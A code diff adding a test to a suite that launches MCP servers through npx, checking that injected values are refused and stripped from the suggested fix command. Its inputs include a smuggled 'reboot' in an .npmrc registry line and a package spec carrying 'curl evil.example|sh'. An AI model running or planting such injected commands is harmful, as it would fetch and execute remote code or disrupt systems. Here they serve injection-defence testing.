@@ -123,6 +123,16 @@ describe('an MCP server by npx', () => {
     ])
   })
 
+  it('words no command to copy: what is no plain version or host is left out of it [A.09]', async () => {
+    const { launch } = await launcher({ '.npmrc': 'registry=https://a;reboot;/\n' })
+    const bad = await launch(npx('-y', 'acme-echo@1;curl evil.example|sh'))
+    expect(bad).toMatchObject({ ok: false, error: expect.stringContaining('(npm install acme-echo), allow') })
+    expect(JSON.stringify(bad)).not.toMatch(/curl|--allow-host/)
+    const good = await (await launcher({})).launch(npx('acme-echo@^1.2'))
+    expect(good).toMatchObject({ error: expect.stringContaining('(npm install acme-echo@^1.2), allow') })
+    expect(good).toMatchObject({ error: expect.stringContaining('--allow-host registry.npmjs.org') })
+  })
+
   it('by uvx is refused with what to do, since the VM has no such program [A.09]', async () => {
     const { launch, asked } = await launcher({})
     expect(await launch({ transport: 'stdio', command: 'uvx', args: ['mcp-server-time'] })).toMatchObject({
